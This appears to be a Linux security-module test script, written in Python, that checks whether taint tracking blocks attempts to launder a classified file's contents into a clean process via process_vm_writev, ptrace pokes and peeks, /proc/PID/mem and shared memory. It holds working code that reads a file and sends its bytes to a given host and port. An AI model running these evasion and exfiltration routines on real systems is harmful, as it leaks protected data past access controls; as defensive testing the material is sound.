#!/usr/bin/python3
# TEST ONLY: content moved into another process's memory with process_vm_writev(2), as
# malware that read a classified file would do to make a clean process send it.
#   taint-inject.py FILE flow HOST PORT
#     starts a clean child (before reading anything) that waits for bytes to appear in a
#     buffer of its own and then sends them to HOST:PORT; reads FILE (tainting this process
#     when FILE is Class I/II); writes FILE's first bytes into the child's buffer. Exit status:
#     the child's (0: it sent, 1: its send was refused), or 100 + errno when the write into
#     the child failed.
#   taint-inject.py FILE poke HOST PORT
#     the same with ptrace: this process attaches to the clean child (PTRACE_SEIZE) while
#     both are clean, then reads FILE, then writes FILE's first bytes into the child's buffer
#     with PTRACE_POKEDATA (no LSM check after the attach). Exit status: the child's, or
#     100 + errno when a ptrace call failed.
#   taint-inject.py FILE peek HOST PORT
#     the other way: this process attaches to a clean child while both are clean; the child
#     then reads FILE into its buffer (and sends nothing); this process reads the buffer with
#     PTRACE_PEEKDATA and sends it to HOST:PORT. Exit status: 0 sent, 1 its send refused,
#     3 the child never read, 100 + errno when a ptrace call failed.
#   taint-inject.py FILE memwrite HOST PORT
#     poke through /proc/CHILD/mem: this process opens the clean child's mem file while both
#     are clean, then reads FILE and writes its first bytes into the child's buffer with
#     pwrite(2) on that descriptor. Exit status: the child's, or 100 + errno.
#   taint-inject.py FILE memread HOST PORT
#     peek through /proc/CHILD/mem: opened while both are clean; the child then reads FILE
#     into its buffer; this process reads the buffer with pread(2) and sends it. Exit status
#     as for peek.
#   taint-inject.py FILE shmchild HOST PORT
#     anonymous shared memory made before a fork (mmap.mmap(-1, n): MAP_SHARED): the child
#     reads FILE into it and exits; this process, which never read FILE, sends what is there.
#     Exit status: 0 sent, 1 refused, 3 nothing arrived.
#   taint-inject.py FILE shmparent HOST PORT
#     the other way: this process reads FILE into the shared memory after the fork; the child
#     (clean, never reading FILE) sends it. Exit status: the child's (0 sent, 1 refused, 3).
#   taint-inject.py FILE mapwrite OUT
#     a clean child maps OUT (made 4 KiB) shared and writable, then only sleeps; this process
#     reads FILE and writes its first bytes into the child's mapping with process_vm_writev,
#     so they reach OUT with no write of OUT's own. Exit status: 0 when the write went, 1 when
#     it was refused (EPERM), 100 + errno for another error.
#   taint-inject.py FILE mapmem OUT
#     the same through /proc/CHILD/mem, opened while this process is clean, written with
#     pwrite(2) after it read FILE. Exit status as for mapwrite.
#   taint-inject.py FILE mappoke OUT GATE
#     the same with ptrace: this process attaches to the child (PTRACE_SEIZE) while both are
#     clean, reads FILE, stops the child and writes FILE's first bytes into its mapping with
#     PTRACE_POKEDATA (no LSM check after the attach), then stays attached until GATE exists
#     (up to 60 s). Exit status: 0 when the pokes went, 100 + errno when a ptrace call failed.
#   taint-inject.py FILE exempt PROGRAM ARG...
#     starts PROGRAM ARG... as a child (a browser that stays up), reads FILE, then tries
#     process_vm_writev into it. Exit status: 0 when refused with EPERM, 1 when it went,
#     10 + errno for another error.
#   taint-inject.py FILE memexempt PROGRAM ARG...
#     the same through /proc/CHILD/mem, opened while this process is clean: then reads FILE
#     and pwrite(2)s a byte. Exit status: 0 when refused with EPERM, 1 when it went, 10 +
#     errno for another error of the write, 50 + errno when the open failed.
# Only exit statuses: whatever a tainted process prints would taint the shell that reads it.
import ctypes
import errno
import os
import socket
import subprocess
import sys
import tempfile
import time

CHILD = r"""
import ctypes, socket, sys, time
buf = ctypes.create_string_buffer(64)
print(ctypes.addressof(buf), flush=True)
for i in range(1200):
    if buf.raw[0] != 0:
        break
    time.sleep(0.05)
else:
    sys.exit(3)
data = buf.raw.rstrip(b"\0")
try:
    s = socket.create_connection((sys.argv[1], int(sys.argv[2])), 10)
    s.sendall(b"PUT /up HTTP/1.0\r\nContent-Length: %d\r\n\r\n" % len(data) + data)
    s.close()
except PermissionError:
    sys.exit(1)
sys.exit(0)
"""


READER = r"""
import ctypes, os, sys, time
buf = ctypes.create_string_buffer(64)
print(ctypes.addressof(buf), flush=True)
go, done = sys.argv[2], sys.argv[3]
while not os.path.exists(go):
    time.sleep(0.05)
with open(sys.argv[1], "rb") as f:
    ctypes.memmove(buf, f.read()[:60], 60)
os.close(os.open(done, os.O_CREAT | os.O_WRONLY, 0o600))  # created, nothing written
time.sleep(600)
"""

PTRACE_PEEKDATA, PTRACE_POKEDATA, PTRACE_DETACH = 2, 5, 17
PTRACE_SEIZE, PTRACE_INTERRUPT = 0x4206, 0x4207


def ptrace_lib():
    libc = ctypes.CDLL(None, use_errno=True)
    libc.ptrace.restype = ctypes.c_long
    libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_int, ctypes.c_void_p, ctypes.c_void_p]
    return libc


def call(libc, req, pid, addr=0, data=0):
    ctypes.set_errno(0)
    r = libc.ptrace(req, pid, addr, data)
    err = ctypes.get_errno()
    if r == -1 and err != 0:
        raise OSError(err, os.strerror(err))
    return r


def stop(libc, pid):
    call(libc, PTRACE_INTERRUPT, pid)
    os.waitpid(pid, 0)


def send(host, port, data):
    try:
        s = socket.create_connection((host, port), 10)
        s.sendall(b"PUT /up HTTP/1.0\r\nContent-Length: %d\r\n\r\n" % len(data) + data)
        s.close()
    except PermissionError:
        return 1
    return 0


def seize_read_poke(libc, pid, path, addr):
    """Attaches to PID while this process is clean, then reads PATH, stops PID and writes
    PATH's first 56 bytes at ADDR with PTRACE_POKEDATA (no LSM check after the attach)."""
    call(libc, PTRACE_SEIZE, pid)
    with open(path, "rb") as f:
        secret = f.read()[:56].ljust(56, b" ")
    stop(libc, pid)
    word = ctypes.sizeof(ctypes.c_long)
    for off in range(0, len(secret), word):
        v = int.from_bytes(secret[off:off + word], sys.byteorder, signed=True)
        call(libc, PTRACE_POKEDATA, pid, addr + off, v)


def poke(path, host, port):
    libc = ptrace_lib()
    child = subprocess.Popen([sys.executable, "-c", CHILD, host, port], stdout=subprocess.PIPE)
    addr = int(child.stdout.readline())
    try:
        seize_read_poke(libc, child.pid, path, addr)
        call(libc, PTRACE_DETACH, child.pid)
    except OSError as e:
        child.kill()
        child.wait()
        return 100 + e.errno
    return child.wait()


def read_back(path, host, port, attach, take):
    """A clean child reads PATH into its buffer once this process has attach(pid)ed to it
    (while both are clean); take(pid, addr, handle) then reads the buffer, which is sent."""
    tmp = tempfile.mkdtemp()
    go, done = os.path.join(tmp, "go"), os.path.join(tmp, "done")
    child = subprocess.Popen([sys.executable, "-c", READER, path, go, done],
                             stdout=subprocess.PIPE)
    addr = int(child.stdout.readline())
    try:
        handle = attach(child.pid)
        os.close(os.open(go, os.O_CREAT | os.O_WRONLY, 0o600))
        for _ in range(1200):
            if os.path.exists(done):
                break
            time.sleep(0.05)
        else:
            return 3
        data = take(child.pid, addr, handle)
    except OSError as e:
        return 100 + e.errno
    finally:
        child.kill()
        child.wait()
    return send(host, int(port), data.rstrip(b"\0"))


def peek(path, host, port):
    libc = ptrace_lib()

    def take(pid, addr, _):
        stop(libc, pid)
        word = ctypes.sizeof(ctypes.c_long)
        data = b"".join(
            (call(libc, PTRACE_PEEKDATA, pid, addr + off) & (2**(8 * word) - 1))
            .to_bytes(word, sys.byteorder) for off in range(0, 56, word))
        call(libc, PTRACE_DETACH, pid)
        return data

    return read_back(path, host, port, lambda pid: call(libc, PTRACE_SEIZE, pid), take)


def memwrite(path, host, port):
    child = subprocess.Popen([sys.executable, "-c", CHILD, host, port], stdout=subprocess.PIPE)
    addr = int(child.stdout.readline())
    try:
        fd = os.open("/proc/%d/mem" % child.pid, os.O_RDWR | os.O_CLOEXEC)
        with open(path, "rb") as f:
            secret = f.read()[:60]
        os.pwrite(fd, secret, addr)
        os.close(fd)
    except OSError as e:
        child.kill()
        child.wait()
        return 100 + e.errno
    return child.wait()


def memread(path, host, port):
    def take(_, addr, fd):
        data = os.pread(fd, 56, addr)
        os.close(fd)
        return data

    return read_back(path, host, port,
                     lambda pid: os.open("/proc/%d/mem" % pid, os.O_RDONLY | os.O_CLOEXEC), take)


def shm_fork(path, host, port, child_reads):
    import mmap
    shm = mmap.mmap(-1, 4096)  # MAP_SHARED | MAP_ANONYMOUS
    pid = os.fork()
    if pid == 0:
        code = 3
        try:
            if child_reads:
                with open(path, "rb") as f:
                    shm[:60] = f.read()[:60].ljust(60, b"\0")
                code = 0
            else:
                for _ in range(1200):
                    if shm[0] != 0:
                        code = send(host, int(port), bytes(shm[:60]).rstrip(b"\0"))
                        break
                    time.sleep(0.05)
        finally:
            os._exit(code)
    if not child_reads:
        with open(path, "rb") as f:
            shm[:60] = f.read()[:60].ljust(60, b"\0")
        return os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1])
    os.waitpid(pid, 0)
    data = bytes(shm[:60]).rstrip(b"\0")
    if not data:
        return 3
    return send(host, int(port), data)


MAPCHILD = r"""
import ctypes, mmap, os, sys, time
fd = os.open(sys.argv[1], os.O_RDWR | os.O_CREAT | os.O_TRUNC, 0o600)
os.ftruncate(fd, 4096)
m = mmap.mmap(fd, 4096, mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_WRITE)
view = ctypes.c_char.from_buffer(m)
print(ctypes.addressof(view), flush=True)
time.sleep(600)
"""


def map_inject(path, out, through_mem):
    """A clean child maps OUT shared and writable; this process, tainted by PATH after the
    child mapped it (and, through_mem, after it opened the child's mem file), writes PATH's
    first bytes into that mapping."""
    child = subprocess.Popen([sys.executable, "-c", MAPCHILD, out], stdout=subprocess.PIPE)
    try:
        addr = int(child.stdout.readline())
        fd = -1
        if through_mem:
            fd = os.open("/proc/%d/mem" % child.pid, os.O_RDWR | os.O_CLOEXEC)
        with open(path, "rb") as f:
            secret = f.read()[:60]
        if fd >= 0:
            try:
                os.pwrite(fd, secret, addr)
                err = 0
            except OSError as e:
                err = e.errno
        else:
            err = write_into(child.pid, addr, secret)
    except OSError as e:
        err = e.errno
    finally:
        child.kill()
        child.wait()
    if err == 0:
        return 0
    return 1 if err == errno.EPERM else 100 + err


def map_poke(path, out, gate):
    libc = ptrace_lib()
    child = subprocess.Popen([sys.executable, "-c", MAPCHILD, out], stdout=subprocess.PIPE)
    try:
        addr = int(child.stdout.readline())
        seize_read_poke(libc, child.pid, path, addr)
        for _ in range(1200):
            if os.path.exists(gate):
                break
            time.sleep(0.05)
        call(libc, PTRACE_DETACH, child.pid)
    except OSError as e:
        return 100 + e.errno
    finally:
        child.kill()
        child.wait()
    return 0


class IoVec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]


def write_into(pid, addr, data):
    libc = ctypes.CDLL(None, use_errno=True)
    local = ctypes.create_string_buffer(data, len(data))
    lv = IoVec(ctypes.addressof(local), len(data))
    rv = IoVec(addr, len(data))
    n = libc.process_vm_writev(pid, ctypes.byref(lv), 1, ctypes.byref(rv), 1, 0)
    return 0 if n == len(data) else (ctypes.get_errno() or errno.EIO)


def main():
    path, mode = sys.argv[1], sys.argv[2]
    if mode == "poke":
        return poke(path, sys.argv[3], sys.argv[4])
    if mode == "peek":
        return peek(path, sys.argv[3], sys.argv[4])
    if mode == "memwrite":
        return memwrite(path, sys.argv[3], sys.argv[4])
    if mode == "memread":
        return memread(path, sys.argv[3], sys.argv[4])
    if mode == "mappoke":
        return map_poke(path, sys.argv[3], sys.argv[4])
    if mode in ("mapwrite", "mapmem"):
        return map_inject(path, sys.argv[3], mode == "mapmem")
    if mode in ("shmchild", "shmparent"):
        return shm_fork(path, sys.argv[3], sys.argv[4], mode == "shmchild")
    if mode == "flow":
        child = subprocess.Popen([sys.executable, "-c", CHILD, sys.argv[3], sys.argv[4]],
                                 stdout=subprocess.PIPE)
        addr = int(child.stdout.readline())
        with open(path, "rb") as f:
            secret = f.read()[:60]
        err = write_into(child.pid, addr, secret)
        if err != 0:
            child.kill()
            return 100 + err
        return child.wait()
    child = subprocess.Popen(sys.argv[3:], stdin=subprocess.DEVNULL,
                             stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        fd = -1
        if mode == "memexempt":
            time.sleep(1)  # the program's exec done
            try:
                fd = os.open("/proc/%d/mem" % child.pid, os.O_RDWR | os.O_CLOEXEC)
            except OSError as e:
                return 50 + e.errno
        with open(path, "rb") as f:
            f.read()
        if fd >= 0:
            try:
                os.pwrite(fd, b"x", 0x10000)
                err = 0
            except OSError as e:
                err = e.errno
        else:
            err = write_into(child.pid, 0x10000, b"x")
    finally:
        child.kill()
        child.wait()
    if err == errno.EPERM:
        return 0
    return 1 if err == 0 else 10 + err


sys.exit(main())
